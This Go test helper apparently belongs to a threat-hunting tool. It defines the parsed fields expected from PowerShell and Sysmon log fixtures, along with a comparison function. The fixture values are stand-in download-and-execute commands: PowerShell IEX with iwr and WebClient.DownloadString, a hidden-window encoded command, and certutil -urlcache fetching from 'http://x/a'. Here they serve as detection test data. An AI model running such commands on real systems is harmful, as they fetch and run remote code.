// Package eventtest holds what the readers' shape tests share: the typed fields that
// the PowerShell and process records of their testdata/*shapes* fixtures must map to,
// whatever shape each reader found them in.
package eventtest

import (
	"testing"

	"github.com/exechunt/exechunt/tables/event"
)

// The typed fields of the fixtures' records.
var (
	// Pipeline800 is the 800 record: IEX of a download, its details and payload.
	Pipeline800 = event.Pipeline{HostApplication: "powershell.exe -nop -w hidden -c IEX (iwr http://x/a)", CommandLine: "IEX (iwr http://x/a)",
		PSUser: `CORP\bob`, Payload: "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\n"}
	// Pipeline4103 is the 4103 record: Invoke-WebRequest from an encoded command.
	Pipeline4103 = event.Pipeline{HostApplication: "powershell.exe -enc SQBFAFgA", CommandLine: "Invoke-WebRequest", PSUser: `CORP\bob`,
		Payload: "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"}
	// Script is the 4104 record without a path.
	Script = event.ScriptBlockPart{ScriptBlockID: "0c4e3a1b-2d5f-4a6b-8c7d-9e0f1a2b3c4d", MessageNumber: 1, MessageTotal: 1,
		ScriptText: "iex (New-Object Net.WebClient).DownloadString('http://x/a')"}
	// Process is the process creation whose paths came with doubled backslashes.
	Process = event.ProcessCreation{Image: `C:\Windows\System32\certutil.exe`, ParentImage: `C:\Windows\explorer.exe`,
		Cmdline: `certutil -urlcache -f http://x/a C:\\a.exe`}
)

// Rendered800 is Pipeline800 read from a rendered message, whose payload has no
// trailing line break (it is the message's layout).
func Rendered800() *event.Pipeline {
	p := Pipeline800
	p.Payload = "CommandInvocation(Invoke-Expression): \"Invoke-Expression\""
	return &p
}

// ScriptAt is Script with a path.
func ScriptAt(path string) *event.ScriptBlockPart {
	s := Script
	s.ScriptPath = path
	return &s
}

// EVTXShapes is what the records of tables/source/evtx/testdata/powershell_shapes.evtx
// map to, through the evtx reader and through the binxml decoder alone.
func EVTXShapes() []Want {
	return []Want{
		{Name: "800 three unnamed items", Pipeline: &Pipeline800},
		{Name: "800 one string-array item", Pipeline: &Pipeline800},
		{Name: "4104 unnamed items", Script: ScriptAt(`C:\a.ps1`)},
		{Name: "4103 unnamed items", Pipeline: &Pipeline4103},
		{Name: "4104 named, empty Path", Script: &Script},
		{Name: "sysmon doubled backslashes", Process: &Process},
	}
}

// Want is what one record of a fixture maps to; one of the typed fields is set.
type Want struct {
	Name     string
	Pipeline *event.Pipeline
	Script   *event.ScriptBlockPart
	Process  *event.ProcessCreation // Image, ParentImage, CurrentDirectory and Cmdline are compared
}

// Check runs one subtest per want against the events in order.
func Check(t *testing.T, events []event.Event, wants []Want) {
	t.Helper()
	if len(events) != len(wants) {
		t.Fatalf("%d events, want %d", len(events), len(wants))
	}
	for i, w := range wants {
		ev := events[i]
		t.Run(w.Name, func(t *testing.T) {
			switch {
			case w.Pipeline != nil:
				if ev.Pipeline == nil || *ev.Pipeline != *w.Pipeline {
					t.Errorf("got  %+v\nwant %+v", ev.Pipeline, w.Pipeline)
				}
			case w.Script != nil:
				if ev.ScriptBlockPart == nil || *ev.ScriptBlockPart != *w.Script {
					t.Errorf("got  %+v\nwant %+v", ev.ScriptBlockPart, w.Script)
				}
			case w.Process != nil:
				p := ev.ProcessCreation
				if p == nil || p.Image != w.Process.Image || p.ParentImage != w.Process.ParentImage ||
					p.CurrentDirectory != w.Process.CurrentDirectory || p.Cmdline != w.Process.Cmdline {
					t.Errorf("got  %+v\nwant %+v", p, w.Process)
				}
			default:
				t.Fatal("want names no typed field")
			}
		})
	}
}
